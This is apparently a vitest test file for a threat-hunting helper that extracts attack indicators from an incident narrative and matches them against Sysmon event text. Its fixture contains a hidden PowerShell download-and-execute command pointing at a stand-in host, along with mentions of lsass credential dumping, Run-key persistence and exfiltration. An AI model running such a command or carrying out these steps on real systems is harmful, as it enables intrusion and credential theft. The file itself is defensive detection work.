import { describe, expect, it } from "vitest";
import { checkArtifacts, extractArtifacts } from "./artifacts";

const narrative =
  "The victim opened Invoice_0421.docm from a phishing mail; a macro ran `powershell -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://cdn-update.xyz/a.ps1')`. " +
  "It persisted via HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater and dropped C:\\ProgramData\\upd\\svc.exe, " +
  "then dumped lsass to C:\\Windows\\Temp\\lsass.dmp, moved to 10.20.4.15 and exfiltrated to https://files.example-share.com/upload.";

describe("extractArtifacts", () => {
  it("finds files, commands, URLs, keys, paths and IPs with their spans", () => {
    const found = extractArtifacts(narrative);
    const values = found.map((a) => `${a.kind}:${a.value}`);
    expect(values).toEqual([
      "file:Invoice_0421.docm",
      "command:powershell -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://cdn-update.xyz/a.ps1')",
      "registry:HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater",
      "path:C:\\ProgramData\\upd\\svc.exe",
      "path:C:\\Windows\\Temp\\lsass.dmp",
      "ip:10.20.4.15",
      "url:https://files.example-share.com/upload",
    ]);
    for (const a of found) expect(narrative.slice(a.span[0], a.span[1])).toBe(a.value);
  });

  it("finds nothing in a narrative that names no artifact", () => {
    expect(
      extractArtifacts("phishing document, then a PowerShell download cradle, then persistence"),
    ).toEqual([]);
  });
});

describe("checkArtifacts", () => {
  it("matches HKCU keys against the HKU\\<SID> form Sysmon writes, case-insensitively", () => {
    const [key, file] = extractArtifacts(
      "set HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater and ran Svc.EXE",
    );
    const events = [
      "HKU\\S-1-5-21-1-2-3-1104\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater\nC:\\x\\svc.exe",
    ];
    expect(checkArtifacts([key, file], events).map((c) => c.present)).toEqual([true, true]);
    expect(checkArtifacts([key], ["HKLM\\SOFTWARE\\Other"])[0].present).toBe(false);
  });

  it("expands %VAR% paths to their tail", () => {
    const [path] = extractArtifacts("dropped %APPDATA%\\Microsoft\\upd.dll");
    expect(path.kind).toBe("path");
    expect(checkArtifacts([path], ["C:\\Users\\bob\\AppData\\Roaming\\Microsoft\\upd.dll"])[0].present).toBe(
      true,
    );
  });
});
